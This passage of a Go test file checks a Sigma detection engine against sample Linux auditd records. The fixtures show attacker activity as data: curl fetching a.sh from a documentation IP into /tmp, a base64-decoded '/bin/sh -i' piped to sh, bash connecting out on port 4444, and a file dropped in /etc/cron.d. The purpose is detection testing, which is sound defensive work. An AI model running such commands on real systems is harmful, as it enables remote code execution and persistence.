package sigma

import (
	"encoding/hex"
	"github.com/audisp-enrich/audisp-enrich/plugin/testsupport"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/audisp-enrich/audisp-enrich/plugin/audit"
	"github.com/audisp-enrich/audisp-enrich/sinks/encode"
)

// An exec of "curl -o /tmp/x http://198.51.100.7/a.sh" by bash, ENRICHED
// format (" @" starts the interpreted fields).
const execCurl = `type=SYSCALL msg=audit(1795618621.766:293): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=4242 pid=4243 auid=1000 uid=0 gid=0 euid=33 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" key="susp_activity" @ARCH=x86_64 @SYSCALL=execve @AUID="alice" @UID="root" @EUID="www-data"
type=EXECVE msg=audit(1795618621.766:293): argc=4 a0="curl" a1="-o" a2="/tmp/X" a3="http://198.51.100.7/a.sh"
type=CWD msg=audit(1795618621.766:293): cwd="/home/Alice"
type=PATH msg=audit(1795618621.766:293): item=0 name="/usr/bin/curl" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
type=PROCTITLE msg=audit(1795618621.766:293): proctitle=6375726C002D6F
`

func TestAuditdRecordFields(t *testing.T) {
	e := newTestEnricher(t,
		rule("a1", "auditd", "    sel:\n        type: 'execve'\n        a0: curl\n        a1: '-o'\n    condition: sel\n"),
		// one map must hold in one record: a0 is in EXECVE, exe in SYSCALL
		rule("a2", "auditd", "    sel:\n        a0: curl\n        exe: /usr/bin/curl\n    condition: sel\n"),
		// the combination of two selections on different records
		rule("a3", "auditd", "    s1:\n        type: EXECVE\n        a0: curl\n    s2:\n        type: SYSCALL\n        SYSCALL: execve\n        euid: 33\n    condition: s1 and s2\n"),
		rule("a4", "auditd", "    sel:\n        key: susp_activity\n    condition: sel\n"),
		rule("a5", "auditd", "    sel:\n        type: PATH\n        name|endswith: /curl\n    condition: sel\n"),
		// ENRICHED names and case-insensitive values
		rule("a6", "auditd", "    sel:\n        UID: ROOT\n        EUID: www-data\n    condition: sel\n"),
		rule("a7", "auditd", "    sel:\n        type: CWD\n        cwd|cased: /home/alice\n    condition: sel\n"),
		rule("a8", "auditd", "    sel:\n        type: CWD\n        cwd: /home/alice\n    condition: sel\n"),
		// keyword search in one record (with an EXECVE record's command line)
		rule("a9", "auditd", "    keywords:\n        - '-o /tmp/x'\n    condition: keywords\n"),
		rule("a10", "auditd", "    keywords:\n        '|all':\n            - curl\n            - 198.51.100\n    condition: keywords\n"),
		rule("a11", "auditd", "    keywords:\n        '|all':\n            - curl\n            - wget\n    condition: keywords\n"),
		rule("a12", "auditd", "    sel:\n        type: EXECVE\n        a4: null\n    condition: sel\n"),
		rule("a13", "auditd", "    sel:\n        type: EXECVE\n        a3|exists: true\n    condition: sel\n"),
		rule("a14", "auditd", "    sel:\n        type: EXECVE\n        a4|exists: true\n    condition: sel\n"),
		rule("a15", "auditd", "    sel:\n        type: SYSCALL\n        euid|lt: 100\n        pid|gte: 4243\n    condition: sel\n"),
		rule("a16", "auditd", "    sel:\n        type: SYSCALL\n        euid|gt: 33\n    condition: sel\n"),
		// "-o" is in the EXECVE record, "alice" in SYSCALL and CWD: no one record has both
		rule("a17", "auditd", "    keywords:\n        '|all':\n            - '-o'\n            - alice\n    condition: keywords\n"),
	)
	got := matched(t, e, eventOf(t, execCurl))
	want := []string{"a1", "a3", "a4", "a5", "a6", "a8", "a9", "a10", "a12", "a13", "a15"}
	if !slices.Equal(got, want) {
		t.Errorf("matched %v, want %v", got, want)
	}
}

// TestKeywordsOneRecord: a keyword search reads one log message, which
// for auditd is one record, so a rule pairing type: EXECVE with keywords
// looks for them in the EXECVE record (SigmaHQ's System Shutdown/Reboot
// shape: "git init" has "init" in EXECVE and "0" only in SYSCALL's exit).
func TestKeywordsOneRecord(t *testing.T) {
	shutdown := rule("s1", "auditd", "    execve:\n        type: EXECVE\n    init:\n        - init\n        - telinit\n"+
		"    level:\n        - 0\n        - 6\n    condition: execve and init and level\n")
	// keywords with a not: truncate -s without a size file
	pad := rule("s2", "auditd", "    execve:\n        type: EXECVE\n    kw:\n        '|all':\n            - truncate\n            - '-s'\n"+
		"    f:\n        - '--reference'\n    condition: execve and kw and not f\n")
	e := newTestEnricher(t, shutdown, pad)
	exec := func(args ...string) *audit.Event {
		text := `type=SYSCALL msg=audit(1795618621.766:300): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=1 ppid=1 pid=1000 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="x" exe="/usr/bin/x" key=(null)
type=EXECVE msg=audit(1795618621.766:300): argc=` + strconv.Itoa(len(args))
		for i, a := range args {
			text += " a" + strconv.Itoa(i) + `="` + a + `"`
		}
		ev := eventOf(t, text)
		ev.Summary = audit.SummaryOf(ev)
		return ev
	}
	for _, c := range []struct {
		args []string
		want []string
	}{
		{[]string{"git", "init"}, nil},
		{[]string{"init", "0"}, []string{"s1"}},
		{[]string{"telinit", "6"}, []string{"s1"}},
		{[]string{"truncate", "-s", "+8M", "/bin/x"}, []string{"s2"}},
		{[]string{"truncate", "--reference", "a", "-s", "+8M", "/bin/x"}, nil},
	} {
		if got := matched(t, e, exec(c.args...)); !slices.Equal(got, c.want) {
			t.Errorf("%q: matched %v, want %v", c.args, got, c.want)
		}
	}
}

func TestProcessCreation(t *testing.T) {
	ev := eventOf(t, execCurl)
	ev.Parent = &audit.Process{PID: 4242, Executable: "/usr/bin/bash", Args: []string{"bash", "-c", "curl -o /tmp/x"}}
	e := newTestEnricher(t,
		rule("p1", "process_creation", "    sel:\n        Image|endswith: '/curl'\n        CommandLine|contains|all:\n            - ' -o '\n            - 'http://'\n    condition: sel\n"),
		rule("p2", "process_creation", "    sel:\n        ParentImage|endswith: /bash\n        ParentCommandLine|contains: '-c curl'\n    condition: sel\n"),
		rule("p3", "process_creation", "    sel:\n        User: root\n        LogonId: 1000\n        CurrentDirectory: /home/alice\n        ProcessId: 4243\n        ParentProcessId: 4242\n    condition: sel\n"),
		rule("p4", "process_creation", "    sel:\n        Image|endswith: '/wget'\n    filter:\n        CommandLine|contains: x\n    condition: not sel and not filter\n"),
		rule("p5", "process_creation", "    sel:\n        Image|endswith: '/wget'\n    filter:\n        CommandLine|contains: zzz\n    condition: not (sel or filter)\n"),
		rule("p6", "process_creation", "    sel:\n        CommandLine|re: 'http://\\d+\\.\\d+'\n    condition: sel\n"),
		rule("p7", "process_creation", "    sel:\n        CommandLine|re: 'HTTP://'\n    condition: sel\n"),
		rule("p8", "process_creation", "    sel:\n        CommandLine|re|i: 'HTTP://'\n    condition: sel\n"),
		rule("p9", "process_creation", "    sel:\n        CommandLine: 'curl ?o /tmp/*/a.sh'\n    condition: sel\n"),
		rule("p10", "process_creation", "    sel:\n        CommandLine: 'curl ?o /tmp/\\*'\n    condition: sel\n"),
		rule("p11", "process_creation", "    sel_a:\n        Image: /usr/bin/nope\n    sel_b:\n        Image: /usr/bin/curl\n    condition: 1 of sel_*\n"),
		rule("p12", "process_creation", "    sel_a:\n        Image: /usr/bin/nope\n    sel_b:\n        Image: /usr/bin/curl\n    condition: all of sel_*\n"),
		rule("p13", "process_creation", "    sel_a:\n        Image|startswith: /usr/\n    _x:\n        Image: /nope\n    condition: all of them\n"),
		rule("p14", "process_creation", "    sel:\n        - Image: /nope\n        - CommandLine|endswith: a.sh\n    condition: sel\n"),
		rule("p15", "process_creation", "    sel:\n        CommandLine|windash|contains: ' /o '\n    condition: sel\n"),
		rule("p16", "process_creation", "    sel:\n        Image|neq: /usr/bin/curl\n    condition: sel\n"),
	)
	got := matched(t, e, ev)
	want := []string{"p1", "p2", "p3", "p5", "p6", "p8", "p9", "p11", "p13", "p14", "p15"}
	if !slices.Equal(got, want) {
		t.Errorf("matched %v, want %v", got, want)
	}
	// Not an exec: process_creation rules do not run.
	nonExec := eventOf(t, strings.Replace(execCurl, "syscall=59", "syscall=2", 1))
	nonExec.Records[0].Interp[1].Value = "open"
	if got := matched(t, e, nonExec); len(got) != 0 {
		t.Errorf("non-exec event matched %v", got)
	}
}

func TestBase64AndCIDR(t *testing.T) {
	// echo 'L2Jpbi9zaCAtaQ==' | base64 -d: "/bin/sh -i"; the offset forms
	// find "sh -i" inside it.
	ev := eventOf(t, `type=SYSCALL msg=audit(1795618621.100:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=0 uid=0 euid=0 comm="bash" exe="/usr/bin/bash" key=(null)
type=EXECVE msg=audit(1795618621.100:7): argc=3 a0="bash" a1="-c" a2="echo L2Jpbi9zaCAtaQ== | base64 -d | sh"`)
	e := newTestEnricher(t,
		rule("b1", "process_creation", "    sel:\n        CommandLine|base64|contains: '/bin/sh -i'\n    condition: sel\n"),
		rule("b2", "process_creation", "    sel:\n        CommandLine|base64offset|contains: 'sh -i'\n    condition: sel\n"),
		rule("b3", "process_creation", "    sel:\n        CommandLine|base64offset|contains: 'sh -x'\n    condition: sel\n"),
		// base64 is case-sensitive even without cased
		rule("b4", "process_creation", "    sel:\n        CommandLine|base64|contains: '/BIN/sh -i'\n    condition: sel\n"),
	)
	if got, want := matched(t, e, ev), []string{"b1", "b2"}; !slices.Equal(got, want) {
		t.Errorf("matched %v, want %v", got, want)
	}

	conn := `type=SYSCALL msg=audit(1795618621.100:8): arch=c000003e syscall=42 success=yes exit=0 ppid=1 pid=2 auid=0 uid=0 euid=0 comm="bash" exe="/usr/bin/bash" key=(null) @SYSCALL=connect
type=SOCKADDR msg=audit(1795618621.100:8): saddr=02001F90C63364070000000000000000`
	e = newTestEnricher(t,
		rule("n1", "network_connection", "    sel:\n        Initiated: 'true'\n        Image|endswith: /bash\n        DestinationPort: 8080\n    filter:\n        DestinationIp|cidr:\n            - 127.0.0.0/8\n            - 10.0.0.0/8\n    condition: sel and not filter\n"),
		rule("n2", "network_connection", "    sel:\n        DestinationIp|cidr: 198.51.100.0/24\n    condition: sel\n"),
		rule("n3", "network_connection", "    sel:\n        DestinationIp|cidr: 10.0.0.0/8\n    condition: sel\n"),
	)
	if got, want := matched(t, e, eventOf(t, conn)), []string{"n1", "n2"}; !slices.Equal(got, want) {
		t.Errorf("matched %v, want %v", got, want)
	}
}

func TestFileEvent(t *testing.T) {
	ev := eventOf(t, `type=SYSCALL msg=audit(1795618621.100:9): arch=c000003e syscall=257 success=yes exit=3 ppid=1 pid=2 auid=0 uid=0 euid=0 comm="tee" exe="/usr/bin/tee" key=(null) @SYSCALL=openat
type=CWD msg=audit(1795618621.100:9): cwd="/etc"
type=PATH msg=audit(1795618621.100:9): item=0 name="/etc/cron.d/" nametype=PARENT
type=PATH msg=audit(1795618621.100:9): item=1 name="cron.d/evil" nametype=CREATE`)
	e := newTestEnricher(t,
		rule("f1", "file_event", "    sel:\n        TargetFilename|startswith: /etc/cron.d/\n        Image: /usr/bin/tee\n    condition: sel\n"),
		rule("f2", "file_event", "    sel:\n        TargetFilename|startswith: /etc/cron.d/\n    filter:\n        Image: /usr/bin/tee\n    condition: sel and not filter\n"),
	)
	if got, want := matched(t, e, ev), []string{"f1"}; !slices.Equal(got, want) {
		t.Errorf("matched %v, want %v", got, want)
	}
}

func TestHitOutput(t *testing.T) {
	e := newTestEnricher(t, rule("o1", "auditd", "    sel:\n        a0: curl\n    condition: sel\n"))
	ev := eventOf(t, execCurl)
	ev.Severity = 1
	matched(t, e, ev)
	if len(ev.Sigma) != 1 {
		t.Fatalf("hits %v", ev.Sigma)
	}
	h := ev.Sigma[0]
	if h.ID != "o1" || h.Title != "Test o1" || h.Level != "high" || h.Author != "Tester" ||
		!slices.Equal(h.Tags, []string{"attack.execution", "attack.t1059.004"}) {
		t.Errorf("hit %+v", h)
	}
	if ev.Severity != 3 {
		t.Errorf("severity %d, want 3 (high)", ev.Severity)
	}
	if len(ev.Techniques) != 1 || ev.Techniques[0].ID != "T1059.004" || ev.Techniques[0].Source != "sigma:o1" {
		t.Errorf("techniques %+v", ev.Techniques)
	}
	if !slices.Contains(ev.Tags, "sigma:o1") || !slices.Contains(ev.Tags, "sigma_level:high") {
		t.Errorf("tags %v", ev.Tags)
	}
	var enc encode.Full
	out := string(enc.Append(nil, ev))
	for _, want := range []string{`"sigma":[{"id":"o1","title":"Test o1","level":"high","author":"Tester","tags":["attack.execution","attack.t1059.004"]}]`,
		`"T1059.004"`} {
		if !strings.Contains(out, want) {
			t.Errorf("JSON lacks %s:\n%s", want, out)
		}
	}
}

// TestNetworkConnectInProgress: a non-blocking connect (curl, Go, most
// daemons) returns EINPROGRESS (success=no exit=-115) and is an initiated
// connection; a refused one (exit=-111) is not. Lines in the kernel's
// format, ENRICHED and RAW (the syscall by its number).
func TestNetworkConnectInProgress(t *testing.T) {
	conn := func(serial, result, enriched string) string {
		return `type=SYSCALL msg=audit(1796466200.000:` + serial + `): arch=c000003e syscall=42 ` + result + ` a0=5 a1=7ffee01879e0 a2=10 a3=7f534deefe70 items=0 ppid=1 pid=6001 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="curl" exe="/usr/bin/curl" key=(null)` + enriched + `
type=SOCKADDR msg=audit(1796466200.000:` + serial + `): saddr=020003E7080808080000000000000000
type=EOE msg=audit(1796466200.000:` + serial + `):`
	}
	const enriched = ` @ARCH=x86_64 @SYSCALL=connect @AUID="unset" @UID="root"`
	e := newTestEnricher(t, rule("n1", "network_connection", "    sel:\n        Initiated: 'true'\n        DestinationIp: 8.8.8.8\n        DestinationPort: 999\n        Image: /usr/bin/curl\n    condition: sel\n"))
	for _, c := range []struct {
		name, serial, result, enriched string
		want                           []string
	}{
		{"success", "10", "success=yes exit=0", enriched, []string{"n1"}},
		{"EINPROGRESS", "11", "success=no exit=-115", enriched, []string{"n1"}},
		{"EINPROGRESS raw", "12", "success=no exit=-115", "", []string{"n1"}},
		{"refused", "13", "success=no exit=-111", enriched, nil},
		{"refused raw", "14", "success=no exit=-111", "", nil},
	} {
		if got := matched(t, e, eventOf(t, conn(c.serial, c.result, c.enriched))); !slices.Equal(got, c.want) {
			t.Errorf("%s: matched %v, want %v", c.name, got, c.want)
		}
	}
}

// execveLines writes the EXECVE records of args as the kernel does
// (kernel/auditsc.c audit_log_execve_info; TestRealLongArguments compares
// it with a real capture): a record holds about 7500 bytes of
// arguments; an argument with a space, a quote or a control byte is
// hex-encoded, others quoted; one that does not fit in what is left of
// the record with some room to spare is logged as aN_len and chunks
// aN[0], aN[1], ..., continued in the next records (whose text starts
// with a space after the header's).
func execveLines(id string, args ...string) string {
	const maxLen, abuf = 7500, 96
	var out, rec strings.Builder
	rem := maxLen
	rec.WriteString("argc=" + strconv.Itoa(len(args)))
	flush := func() {
		out.WriteString("type=EXECVE msg=audit(" + id + "): " + rec.String() + "\n")
		rec.Reset()
		rem = maxLen
	}
	for n, arg := range args {
		encode := strings.ContainsFunc(arg, func(c rune) bool { return c == '"' || c < 0x21 || c > 0x7e })
		left, full := len(arg)+2, len(arg) // bytes of the logged form left; aN_len
		if encode {
			left, full = 2*len(arg), 2*len(arg)
		}
		data := arg
		for iter := 0; iter == 0 || data != ""; {
			if abuf+8 > rem {
				flush()
			}
			field := " a" + strconv.Itoa(n) + "="
			if iter > 0 || left+abuf > rem {
				field = " a" + strconv.Itoa(n) + "[" + strconv.Itoa(iter) + "]="
				if iter == 0 {
					field = " a" + strconv.Itoa(n) + "_len=" + strconv.Itoa(full) + field
				}
				iter++
			} else {
				iter = 1
			}
			rec.WriteString(field)
			rem -= len(field)
			take := len(data)
			if encode {
				if left > rem {
					take = rem / 2
				}
				rec.WriteString(strings.ToUpper(hex.EncodeToString([]byte(data[:take]))))
				rem, left = rem-2*take, left-2*take
			} else {
				if left > rem {
					take = rem - 2
				}
				rec.WriteString(`"` + data[:take] + `"`)
				rem, left = rem-take-2, left-take
			}
			data = data[take:]
		}
	}
	flush()
	return out.String()
}

// TestAuditdLongArguments: a field map on EXECVE sees each argument whole
// (aN), however audit split it: an argument over 7500 bytes in chunks
// (padding an argument is not enough to hide it), and an argv continued
// in a second EXECVE record (a0 and a22 in one map). The prefilter finds
// what every rule evaluated finds.
func TestAuditdLongArguments(t *testing.T) {
	const sys = `type=SYSCALL msg=audit(1796466200.500:30): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=1 pid=7000 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="bash" exe="/usr/bin/bash" key=(null) @ARCH=x86_64 @SYSCALL=execve @AUID="root" @UID="root"
`
	const cwd = `type=CWD msg=audit(1796466200.500:30): cwd="/root"
`
	long := eventOf(t, sys+execveLines("1796466200.500:30", "bash", "-c", "echo "+strings.Repeat("A", 7600)+" PAYLOADMARK")+cwd)
	if _, ok := long.Records[1].Get("a2"); ok {
		t.Fatal("a2 is not in chunks: the case shows nothing")
	}
	argv := []string{"tar", "-czf"}
	for range 20 {
		argv = append(argv, "dir/"+strings.Repeat("f", 400))
	}
	argv = append(argv, "--exclude=secret")
	many := eventOf(t, strings.ReplaceAll(sys, `comm="bash"`, `comm="tar"`)+execveLines("1796466200.500:30", argv...)+cwd)
	e := newTestEnricher(t,
		rule("l1", "auditd", "    sel:\n        type: EXECVE\n        a0: bash\n        a2|contains: PAYLOADMARK\n    condition: sel\n"),
		rule("l2", "auditd", "    sel:\n        type: EXECVE\n        a2|startswith: 'echo AAAA'\n        a2|endswith: 'A PAYLOADMARK'\n    condition: sel\n"),
		rule("l3", "auditd", "    sel:\n        type: EXECVE\n        a0: bash\n        a2|contains: NOTTHERE\n    condition: sel\n"),
		rule("l4", "auditd", "    sel:\n        type: EXECVE\n        a0: tar\n        a22: '--exclude=secret'\n    condition: sel\n"),
		rule("l5", "auditd", "    sel:\n        type: EXECVE\n        a23|exists: true\n    condition: sel\n"),
		rule("l6", "auditd", "    sel:\n        a0: bash\n        a3: null\n    condition: sel\n"),
	)
	for _, c := range []struct {
		name string
		ev   *audit.Event
		want []string
	}{
		{"chunks", long, []string{"l1", "l2", "l6"}},
		{"two records", many, []string{"l4"}},
	} {
		if n := strings.Count(eventText(c.ev), "type=EXECVE"); n < 2 {
			t.Fatalf("%s: the arguments are in %d EXECVE records: the case shows nothing", c.name, n)
		}
		c.ev.Summary = audit.SummaryOf(c.ev)
		if got := matched(t, e, c.ev); !slices.Equal(got, c.want) {
			t.Errorf("%s: matched %v, want %v", c.name, got, c.want)
		}
		if got, want := hitIDs(e.Set(), c.ev), hitIDs(withoutPrefilter(e.Set()), c.ev); !slices.Equal(got, want) {
			t.Errorf("%s: prefiltered %v, every rule evaluated %v", c.name, got, want)
		}
	}
}

// TestExpandedValuesWithAll: with all, a value that windash or
// base64offset expands into variants matches when one variant does, and
// every value of the rule must match (pySigma's grouping); before, every
// variant of every value had to match, which never happens.
func TestExpandedValuesWithAll(t *testing.T) {
	exec := func(args string) *audit.Event {
		ev := eventOf(t, `type=SYSCALL msg=audit(1795618621.100:9): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 auid=0 uid=0 euid=0 comm="x" exe="/usr/bin/x" key=(null)
type=EXECVE msg=audit(1795618621.100:9): `+args)
		ev.Summary = audit.SummaryOf(ev)
		return ev
	}
	e := newTestEnricher(t,
		rule("w1", "process_creation", "    sel:\n        CommandLine|windash|contains|all: [' -i ', 'LANG']\n    condition: sel\n"),
		rule("w2", "process_creation", "    sel:\n        CommandLine|windash|contains|all: [' -i ', 'NOPE']\n    condition: sel\n"),
		rule("b1", "process_creation", "    sel:\n        CommandLine|base64offset|contains|all: [hello, world]\n    condition: sel\n"),
		rule("b2", "process_creation", "    sel:\n        CommandLine|base64offset|contains|all: [hello, nope]\n    condition: sel\n"),
		rule("k1", "auditd", "    sel:\n        type: EXECVE\n    kw:\n        '|base64offset|all': [hello, world]\n    condition: sel and kw\n"),
		rule("k2", "auditd", "    sel:\n        type: EXECVE\n    kw:\n        '|base64offset|all': [hello, nope]\n    condition: sel and kw\n"),
	)
	for _, c := range []struct {
		args string
		want []string
	}{
		{`argc=4 a0="./envrun" a1="-i" a2="LANG=C.UTF-8" a3="sh"`, []string{"w1"}},
		{`argc=4 a0="./envrun" a1="/i" a2="LANG=C.UTF-8" a3="sh"`, []string{"w1"}},
		{`argc=3 a0="bash" a1="-c" a2="echo aGVsbG8gd29ybGQ= | base64 -d"`, []string{"b1", "k1"}},
		{`argc=3 a0="bash" a1="-c" a2="echo aGVsbG8gbW9vbg== | base64 -d"`, nil},
	} {
		if got := matched(t, e, exec(c.args)); !slices.Equal(slices.Sorted(slices.Values(got)), c.want) {
			t.Errorf("%s: matched %v, want %v", c.args, got, c.want)
		}
	}
}

// eventText is the event's records as lines.
func eventText(ev *audit.Event) string {
	var b strings.Builder
	for _, r := range ev.Records {
		b.WriteString(r.Line + "\n")
	}
	return b.String()
}

// TestNetworkMappedIPv4: a dual-stack socket's connect to an IPv4 address
// has an IPv4-mapped IPv6 SOCKADDR (::ffff:127.0.0.1); DestinationIp is
// the IPv4 address, so that SigmaHQ's filter on 127.0.0.1 (Linux Reverse
// Shell Indicator) and cidr values apply. A real IPv6 address stays.
func TestNetworkMappedIPv4(t *testing.T) {
	conn := func(serial, saddr string) *audit.Event {
		return eventOf(t, `type=SYSCALL msg=audit(1796466200.000:`+serial+`): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffee01879e0 a2=1c a3=7f534deefe70 items=0 ppid=1 pid=6002 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="bash" exe="/usr/bin/bash" key=(null) @ARCH=x86_64 @SYSCALL=connect @AUID="unset" @UID="root"
type=SOCKADDR msg=audit(1796466200.000:`+serial+`): saddr=`+saddr+`
type=EOE msg=audit(1796466200.000:`+serial+`):`)
	}
	mapped := conn("12", "0A00115C0000000000000000000000000000FFFF7F00000100000000")  // [::ffff:127.0.0.1]:4444
	mapped8 := conn("13", "0A00115C0000000000000000000000000000FFFF0808080800000000") // [::ffff:8.8.8.8]:4444
	v6 := conn("14", "0A00115C000000002001067C01500001000000000000000100000000")      // [2001:67c:150:1::1]:4444
	e := newTestEnricher(t,
		rule("m1", "network_connection", "    sel:\n        DestinationIp: 127.0.0.1\n        DestinationPort: 4444\n    condition: sel\n"),
		rule("m2", "network_connection", "    sel:\n        DestinationIp|cidr: 127.0.0.0/8\n    condition: sel\n"),
		rule("m3", "network_connection", "    sel:\n        DestinationIp|cidr: 2001:67c::/32\n    condition: sel\n"),
		rule("m4", "network_connection", "    sel:\n        DestinationIp|startswith: '::ffff:'\n    condition: sel\n"),
	)
	checkMatches(t, e, []matchCase{
		{"::ffff:127.0.0.1", mapped, []string{"m1", "m2"}},
		{"::ffff:8.8.8.8", mapped8, nil},
		{"2001:67c:150:1::1", v6, []string{"m3"}},
	})
	// SigmaHQ's rule: bash connecting out, but not to 127.0.0.1 or 0.0.0.0.
	path := filepath.Join(testsupport.SharedDir(t, "sigma"), "rules", "linux", "network_connection", "net_connection_lnx_back_connect_shell_dev.yml")
	if _, err := os.Stat(path); err != nil {
		t.Skipf("SigmaHQ rule not found (%v): it lives in ../shared/sigma beside the repository", err)
	}
	s, err := Load([]string{path})
	if err != nil || len(s.Problems) > 0 || s.Loaded["network_connection"] != 1 {
		t.Fatalf("load %s: %v %v %v", path, err, s.Problems, s.Loaded)
	}
	if got := hitIDs(s, mapped); len(got) != 0 {
		t.Errorf("bash to ::ffff:127.0.0.1 matched %v", got)
	}
	if got := hitIDs(s, mapped8); len(got) != 1 {
		t.Errorf("bash to ::ffff:8.8.8.8 matched %v, want the reverse shell indicator", got)
	}
}

// TestFileEventDirfd: a relative name is joined with the CWD record only
// when it is relative to the working directory: a call that is not an
// *at one (creat), or an *at call whose directory argument is AT_FDCWD
// (logged ffffff9c, as in the demo capture, or sign-extended). GNU tar -C
// /etc/cron.d creates with openat(3, "evil"): that name stays relative,
// not /home/alice/evil, which was never written. linkat's and symlinkat's
// directory of the new name is a2 and a1.
func TestFileEventDirfd(t *testing.T) {
	create := func(serial, syscall, args, enriched string) *audit.Event {
		return eventOf(t, `type=SYSCALL msg=audit(1796466200.600:`+serial+`): arch=c000003e syscall=`+syscall+` success=yes exit=4 `+args+` items=2 ppid=1 pid=7100 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm="tar" exe="/usr/bin/tar" key="cron"`+enriched+`
type=CWD msg=audit(1796466200.600:`+serial+`): cwd="/home/alice"
type=PATH msg=audit(1796466200.600:`+serial+`): item=0 name="evil" inode=2 dev=fe:00 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
type=PATH msg=audit(1796466200.600:`+serial+`): item=1 name="evil" inode=3 dev=fe:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE
type=EOE msg=audit(1796466200.600:`+serial+`):`)
	}
	e := newTestEnricher(t,
		rule("d1", "file_event", "    sel:\n        TargetFilename: /home/alice/evil\n    condition: sel\n"),
		rule("d2", "file_event", "    sel:\n        TargetFilename: evil\n    condition: sel\n"),
		rule("d3", "file_event", "    sel:\n        TargetFilename|endswith: /evil\n    condition: sel\n"),
		rule("d4", "file_event", "    sel:\n        TargetFilename|endswith: evil\n    condition: sel\n"),
	)
	joined, relative := []string{"d1", "d3", "d4"}, []string{"d2", "d4"}
	checkMatches(t, e, []matchCase{
		{"openat dirfd", create("50", "257", "a0=3 a1=55d1 a2=800c1 a3=1a4", " @ARCH=x86_64 @SYSCALL=openat"), relative},
		{"openat dirfd raw", create("51", "257", "a0=3 a1=55d1 a2=800c1 a3=1a4", ""), relative},
		{"openat AT_FDCWD", create("52", "257", "a0=ffffff9c a1=55d1 a2=241 a3=1b6", " @ARCH=x86_64 @SYSCALL=openat"), joined},
		{"openat AT_FDCWD sign-extended", create("53", "257", "a0=ffffffffffffff9c a1=55d1 a2=241 a3=1b6", ""), joined},
		{"creat", create("54", "85", "a0=55d1 a1=1a4 a2=0 a3=0", " @ARCH=x86_64 @SYSCALL=creat"), joined},
		{"linkat to dirfd", create("55", "265", "a0=ffffff9c a1=55d1 a2=3 a3=55d2", " @ARCH=x86_64 @SYSCALL=linkat"), relative},
		{"linkat to AT_FDCWD", create("56", "265", "a0=3 a1=55d1 a2=ffffff9c a3=55d2", ""), joined},
		{"symlinkat to dirfd", create("57", "266", "a0=55d1 a1=3 a2=55d2 a3=0", " @ARCH=x86_64 @SYSCALL=symlinkat"), relative},
		{"mkdirat dirfd aarch64", eventOf(t, strings.Replace(eventText(create("58", "34", "a0=3 a1=55d1 a2=1ed a3=0", "")), "arch=c000003e", "arch=c00000b7", 1)), relative},
	})
}

// matchCase is an event and the ids of the rules that must match it.
type matchCase struct {
	name string
	ev   *audit.Event
	want []string
}

// checkMatches reports each case whose event e matches other rules than
// it wants.
func checkMatches(t *testing.T, e *Enricher, cases []matchCase) {
	t.Helper()
	for _, c := range cases {
		if got := matched(t, e, c.ev); !slices.Equal(got, c.want) {
			t.Errorf("%s: matched %v, want %v", c.name, got, c.want)
		}
	}
}

// TestNumericHexArgs: lt/lte/gt/gte on a0 to a3 read SYSCALL's arguments
// as the hexadecimal numbers audit writes (a2=80241 is 524865, a3=1a4 is
// 420); on EXECVE records they stay decimal, decided per record, so a map
// without a type, or typed SYSCALL and EXECVE, reads `sleep 10`'s a1 as
// 10, not 0x10 (n6 holds, n7 does not).
func TestNumericHexArgs(t *testing.T) {
	ev := eventOf(t, `type=SYSCALL msg=audit(1795618621.100:11): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55d1 a2=80241 a3=1a4 items=2 ppid=1 pid=2 auid=0 uid=0 euid=0 comm="x" exe="/usr/bin/x" key=(null) @SYSCALL=openat
type=EXECVE msg=audit(1795618621.100:11): argc=2 a0="sleep" a1="10"`)
	e := newTestEnricher(t,
		rule("n1", "auditd", "    sel:\n        SYSCALL: openat\n        a2|gte: 524288\n    condition: sel\n"),
		rule("n2", "auditd", "    sel:\n        type: SYSCALL\n        a3|gt: 400\n    condition: sel\n"),
		rule("n3", "auditd", "    sel:\n        type: SYSCALL\n        a3|gt: 500\n    condition: sel\n"),
		rule("n4", "auditd", "    sel:\n        type: EXECVE\n        a1|lt: 12\n    condition: sel\n"),
		rule("n5", "auditd", "    sel:\n        exit|lt: 4\n    condition: sel\n"),
		rule("n6", "auditd", "    sel:\n        a1|lt: 12\n    condition: sel\n"),
		rule("n7", "auditd", "    sel:\n        a1|gte: 15\n        a1|lt: 100\n    condition: sel\n"),
		rule("n8", "auditd", "    sel:\n        type: [SYSCALL, EXECVE]\n        a1|lt: 12\n    condition: sel\n"),
	)
	if got := matched(t, e, ev); !slices.Equal(slices.Sorted(slices.Values(got)), []string{"n1", "n2", "n4", "n5", "n6", "n8"}) {
		t.Errorf("matched %v, want n1 n2 n4 n5 n6 n8", got)
	}
}

// TestUnknownTechniques: an ATT&CK technique tag the bundled catalog lacks
// (a newer release) becomes a technique with its id only (a sub-technique
// with its parent's id), warned about once per id; SigmaHQ's "Disable
// System Firewall" (attack.t1686, ATT&CK v19) gets its technique. Before,
// such tags were dropped without a word. A tactic tag that none of the
// rule's techniques has adds an entry without id holding the tactic; an
// unknown tactic (stealth, v19) is warned about.
func TestUnknownTechniques(t *testing.T) {
	tagged := func(id string, tags ...string) string {
